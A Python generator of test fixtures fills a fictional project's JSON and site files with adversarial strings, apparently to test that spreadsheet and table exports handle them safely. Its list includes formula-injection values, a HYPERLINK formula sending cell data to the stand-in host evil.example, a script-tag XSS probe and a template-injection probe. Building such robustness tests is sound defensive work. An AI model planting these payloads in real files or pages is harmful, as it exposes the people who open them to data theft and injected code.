"""A fictional project whose every free text is one that a careless writer of tables would get wrong."""
import json
import shutil

TEXTS = [
    "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"核实\")", "+8613", "-2+3", "@SUM(1,1)", "＝1+1", "　=1+1", "\t=1+1",
    "=", "-", "——", "'=1+1", "00123", "1-2", "2024年5月", "2024-05-26", "1e5", "TRUE", "#REF!", "ID;PWXL", "0518-8555",
    "一,二;三\"四\"", "第一行\n第二行\n=1+1", "回车\r\n换行\r结束", " 两头有空格 ", "_x0041_ 与 _x000D_", "a\u0008b\u0001c\u001f",
    "<script>alert(1)</script>&amp;", "]]>", "\u202eעברית‏ 左右\u202c", "مرحبا 你好", "𠀀𠮷😀👨‍👩‍👧", "\ufffe\uffff结束", "a\u0301é́",
    "{{ 7 * 7 }}{% raw %}", "https://a.example/" + "y" * 2100, "长" * 40000, "😀" * 17000,
]


def make(base, to):
    """Copies the project `base` to `to`, with the texts in every place that takes one."""
    shutil.copytree(base, to)
    next_at = 0

    def text():
        nonlocal next_at
        next_at += 1
        return TEXTS[(next_at - 1) % len(TEXTS)]

    def edit(name, change):
        path = to / "content" / name
        value = json.loads(path.read_text())
        change(value)
        path.write_text(json.dumps(value, ensure_ascii=True))

    def bodies(value):
        value["bodies"] += [{"id": f"b{i}", "place": "xinhe", "name": one, "full": one, "aliases": [one + "甲", one + "乙"],
                             "functions": ["finance"]} for i, one in enumerate(TEXTS) if len(one) < 3000]
        for function in value["functions"]:
            function["summary"] = text()

    def plan(value):
        value["title"], value["document"]["issuer"], value["document"]["number"] = "=方案", text(), text()
        value["document"].pop("source", None)
        value["basis"] = [{"title": one, "number": text()} for one in TEXTS[:12]]
        value["sections"].append({"id": "s3", "number": "三", "title": "=一,二"})
        names = [one for one in TEXTS if len(one) < 3000]
        for i, one in enumerate(TEXTS):
            value["measures"].append({
                "number": str(10 + i), "title": one, "section": "s3", "sectors": ["industry"], "summary": text(),
                "responsible": [{"body": names[i % len(names)], "role": "lead"}],
                "targets": [{"indicator": one, "comparison": "=", "value": [0.1, -3, 1e15, 12345.678, 1 / 3][i % 5], "unit": text(),
                             "kind": "count", "scope": text(), "area": text()}]})
            value["tasks"].append({"number": str(10 + i), "year": 2024, "title": one, "group": text(), "domain": text(),
                                   "responsible": [{"body": names[i % len(names)], "role": "joint"}]})
        value["groups"] += [{"name": one, "members": [{"name": text(), "post": text(), "role": "member"}], "duties": [text(), text()]}
                            for one in TEXTS[:12]]

    def places(value):
        value["places"][0]["name"] = "=青云"

    edit("bodies.json", bodies)
    edit("plans/xinhe-2024.json", plan)
    edit("places.json", places)
    edit("progress/xinhe-2024.json", lambda value: value["reports"][0].update(text="=完成\n一半"))
    (to / "site/site.yaml").write_text(json.dumps({
        "title": "=标题 & <b>", "publisher": "@编辑部", "date": "2024-12-01", "language": "en", "license": "=任意使用",
        "description": "+说明"}, ensure_ascii=False))
